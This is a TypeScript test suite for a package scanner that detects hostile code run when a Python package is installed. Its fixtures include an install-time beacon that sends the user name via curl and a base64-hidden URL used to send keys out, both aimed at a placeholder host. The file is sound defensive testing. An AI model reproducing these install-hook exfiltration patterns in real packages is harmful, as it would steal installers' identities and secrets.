/**
 * Code that setup.py imports from beside it, or names to run, runs at install
 * time: it is read as setup.py is. Inert samples written for this test.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { ArtifactScanner } from '../../src/analyze/artifact.js';

const root = mkdtempSync(join(tmpdir(), 'gatehouse-cross-file-'));
after(() => rmSync(root, { recursive: true, force: true }));
const scanner = await ArtifactScanner.create();

function tree(name: string, files: Record<string, string>): string {
  const dir = join(root, name);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

const beacon = 'import subprocess\ndef pre_install():\n    subprocess.run(\'curl -H "U: $(whoami)" https://collect.example.invalid/i\', shell=True)\n';

test('a module beside setup.py that setup.py imports and calls runs at install time', async () => {
  const dir = tree('imported', {
    'setup.py': 'from setuptools import setup\nfrom pre_install import pre_install\npre_install()\nsetup(name="x")\n',
    'pre_install.py': beacon,
  });
  const report = await scanner.scanTree(dir);
  const hit = report.findings.find((f) => f.rule === 'code.recon-beacon');
  assert.ok(hit, JSON.stringify(report.reasons));
  assert.equal(hit.context, 'install');
  assert.equal(report.verdict, 'malicious');
});

test('a package module that setup.py runs with python -m runs at install time', async () => {
  const dir = tree('run-module', {
    'setup.py': 'import subprocess\nfrom setuptools import setup\nsubprocess.run(["python", "-m", "pkg.helper"])\nsetup(name="x")\n',
    'pkg/__init__.py': '',
    'pkg/helper.py': `${beacon}pre_install()\n`,
  });
  const report = await scanner.scanTree(dir);
  assert.equal(report.findings.find((f) => f.rule === 'code.recon-beacon')?.context, 'install');
});

test('the same module, not imported or run by setup.py, is call-time code of the package', async () => {
  const dir = tree('not-imported', {
    'setup.py': 'from setuptools import setup\nsetup(name="x", scripts=["pre_install.py"])\n',
    'pre_install.py': beacon,
  });
  const report = await scanner.scanTree(dir);
  assert.equal(report.findings.find((f) => f.rule === 'code.recon-beacon'), undefined);
});

test('a string constant imported from a sibling module is known where it is used', async () => {
  const dir = tree('constants', {
    'setup.py': 'from setuptools import setup\nsetup(name="x", packages=["pkg"])\n',
    'pkg/__init__.py': '',
    'pkg/_utils/__init__.py': '',
    'pkg/_utils/signing.py': 'SIGN_KEY = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC9rPQ=="  # an inert address\n',
    'pkg/account.py': 'import base64, requests\nfrom ._utils.signing import SIGN_KEY\ndef sign(key):\n    requests.get(base64.b64decode(SIGN_KEY) + key)\n',
  });
  const report = await scanner.scanTree(dir);
  assert.ok(report.findings.some((f) => f.rule === 'code.send-to-hidden-url'), JSON.stringify(report.reasons));
});

test('module paths and string constants', async () => {
  const { modulePaths, stringConstant } = await import('../../src/analyze/module-constants.js');
  assert.deepEqual(modulePaths('p-1.0/pkg/account.py', '._utils.signing', 'p-1.0/'), ['p-1.0/pkg/_utils/signing.py', 'p-1.0/pkg/_utils/signing/__init__.py']);
  assert.deepEqual(modulePaths('p-1.0/pkg/sub/a.py', '..conf', 'p-1.0/'), ['p-1.0/pkg/conf.py', 'p-1.0/pkg/conf/__init__.py']);
  assert.deepEqual(modulePaths('p-1.0/pkg/a.py', 'pkg.conf', 'p-1.0/'), ['p-1.0/pkg/conf.py', 'p-1.0/pkg/conf/__init__.py', 'p-1.0/src/pkg/conf.py', 'p-1.0/src/pkg/conf/__init__.py']);
  assert.equal(stringConstant('X = 1\nURL: str = "https://a.invalid"  # c\n', 'URL'), 'https://a.invalid');
  assert.equal(stringConstant('def f():\n    URL = "inner"\n', 'URL'), undefined);
  assert.equal(stringConstant('URL = "a" + b\n', 'URL'), undefined);
});
